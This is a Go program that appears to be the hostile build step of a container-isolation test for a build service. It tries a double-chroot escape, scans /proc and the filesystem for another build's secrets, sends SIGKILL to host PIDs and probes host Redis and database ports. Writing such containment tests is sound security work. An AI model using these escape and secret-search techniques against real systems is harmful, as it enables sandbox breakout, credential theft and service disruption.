// Command escapeprobe is the hostile RUN step of the isolation test
// (test/builds TestHostileBuildIsContained): built statically, copied into
// a build context and run by a Dockerfile, it tries every way out of a
// build's sandbox that a security review of berth found open before, and
// prints one line per attempt:
//
//	ATTEMPT <name>: BLOCKED <why>
//	ATTEMPT <name>: REACHED <what>
//
// followed by "PROBE DONE". It exits 0 whatever it finds, so that the test
// reads the verdicts from the build's log. It never prints the secrets it
// looks for, only whether it saw them.
package main

import (
	"encoding/base64"
	"flag"
	"fmt"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
)

func main() {
	var (
		secrets = flag.String("secrets-b64", "", "comma-separated strings of the victim build (its files, build arguments) that must stay out of sight, base64-encoded so that they appear nowhere in this step's own command line or files")
		paths   = flag.String("paths", "", "comma-separated host paths that must not be readable (data directory files, the victim's work directory)")
		hostDir = flag.String("host-dir", "", "a host directory whose existence would prove an escape from the sandbox's root")
		pids    = flag.String("pids", "", "comma-separated host PIDs (the victim's worker, the server) to send SIGKILL to")
		ports   = flag.String("ports", "", "comma-separated TCP ports of the host's services (API, worker gRPC, Redis, PostgreSQL)")
		hosts   = flag.String("hosts", "", "comma-separated host addresses to try those ports on")
	)
	flag.Parse()
	var wanted []string
	for _, s := range split(*secrets) {
		b, err := base64.StdEncoding.DecodeString(s)
		if err != nil {
			fmt.Printf("bad --secrets-b64: %v\n", err)
			os.Exit(2)
		}
		wanted = append(wanted, string(b))
	}
	escapeRoot(*hostDir)
	scanProcesses(wanted)
	signalPIDs(split(*pids))
	connect(split(*hosts), split(*ports))
	readPaths(split(*paths))
	searchFiles(wanted)
	fmt.Println("PROBE DONE")
}

func split(s string) []string {
	if s == "" {
		return nil
	}
	return strings.Split(s, ",")
}

func report(name string, reached bool, format string, args ...any) {
	verdict := "BLOCKED"
	if reached {
		verdict = "REACHED"
	}
	fmt.Printf("ATTEMPT %s: %s %s\n", name, verdict, fmt.Sprintf(format, args...))
}

// escapeRoot is the classic double chroot: chroot into a subdirectory while
// keeping the working directory outside it, climb with "..", and chroot to
// where that lands. Under chroot isolation it reaches the host's root.
func escapeRoot(hostDir string) {
	if err := os.MkdirAll("/escape-jail", 0o755); err != nil {
		report("double-chroot", false, "mkdir: %v", err)
		return
	}
	if err := syscall.Chroot("/escape-jail"); err != nil {
		report("double-chroot", false, "chroot refused: %v", err)
		return
	}
	for range 64 {
		_ = syscall.Chdir("..")
	}
	if err := syscall.Chroot("."); err != nil {
		report("double-chroot", false, "second chroot refused: %v", err)
		return
	}
	if _, err := os.Stat(hostDir); err == nil {
		report("double-chroot", true, "the host directory %s is visible", hostDir)
		return
	}
	report("double-chroot", false, "chroot worked but stayed inside the build's root (%s not there)", hostDir)
}

// scanProcesses reads every visible process's command line and environment.
func scanProcesses(secrets []string) {
	ents, _ := os.ReadDir("/proc")
	visible, leaked := 0, 0
	var foreign []string
	self := strconv.Itoa(os.Getpid())
	for _, e := range ents {
		if _, err := strconv.Atoi(e.Name()); err != nil || e.Name() == self {
			continue
		}
		visible++
		for _, f := range []string{"cmdline", "environ"} {
			b, err := os.ReadFile(filepath.Join("/proc", e.Name(), f))
			if err != nil {
				continue
			}
			for _, s := range secrets {
				if strings.Contains(string(b), s) {
					leaked++
				}
			}
			if f == "cmdline" {
				cmd := strings.ReplaceAll(string(b), "\x00", " ")
				for _, w := range []string{"berth", "buildah", "rootlesskit", "slirp4netns", "runc", "postgres", "redis"} {
					if strings.Contains(cmd, w) {
						foreign = append(foreign, e.Name()+":"+w)
					}
				}
			}
		}
	}
	report("process-list", leaked > 0 || len(foreign) > 0, "%d other processes visible, %d secret sightings, processes of the host: %v", visible, leaked, foreign)
}

func signalPIDs(pids []string) {
	for _, p := range pids {
		pid, err := strconv.Atoi(p)
		if err != nil || pid <= 1 {
			continue
		}
		// A PID of the host is, at best, nobody in this namespace; if it
		// names a process here, it is one of this step's own: leave those.
		if b, err := os.ReadFile(filepath.Join("/proc", p, "cmdline")); err == nil && len(b) > 0 {
			report("signal-"+p, false, "the PID names a process of this step's own namespace, not the host's")
			continue
		}
		err = syscall.Kill(pid, syscall.SIGKILL)
		report("signal-"+p, err == nil, "kill -9: %v", err)
	}
}

func connect(hosts, ports []string) {
	for _, h := range hosts {
		for _, p := range ports {
			addr := net.JoinHostPort(h, p)
			c, err := net.DialTimeout("tcp", addr, 3*time.Second)
			if err != nil {
				report("connect-"+addr, false, "%v", err)
				continue
			}
			// Something answered: say what, in a few bytes (a RESP ping
			// tells Redis apart).
			_ = c.SetDeadline(time.Now().Add(2 * time.Second))
			_, _ = c.Write([]byte("PING\r\n"))
			buf := make([]byte, 32)
			n, _ := c.Read(buf)
			c.Close()
			report("connect-"+addr, true, "connected; answered %q", buf[:n])
		}
	}
}

func readPaths(paths []string) {
	for _, p := range paths {
		f, err := os.Open(p)
		if err != nil {
			report("read-"+p, false, "%v", err)
			continue
		}
		_, err = f.Readdirnames(1)
		if err != nil {
			var b [1]byte
			_, err = f.Read(b[:])
		}
		f.Close()
		report("read-"+p, err == nil, "opened: %v", err)
	}
}

// searchFiles walks everything this step can see for the victim's secrets
// (an auth file, the victim's source).
func searchFiles(secrets []string) {
	if len(secrets) == 0 {
		return
	}
	found, files := 0, 0
	_ = filepath.WalkDir("/", func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		if d.IsDir() && (path == "/proc" || path == "/sys" || path == "/dev") {
			return filepath.SkipDir
		}
		if !d.Type().IsRegular() {
			return nil
		}
		info, err := d.Info()
		if err != nil || info.Size() > 8<<20 {
			return nil
		}
		b, err := os.ReadFile(path)
		if err != nil {
			return nil
		}
		files++
		for _, s := range secrets {
			if strings.Contains(string(b), s) {
				found++
			}
		}
		return nil
	})
	report("file-search", found > 0, "%d files read, %d secret sightings", files, found)
}
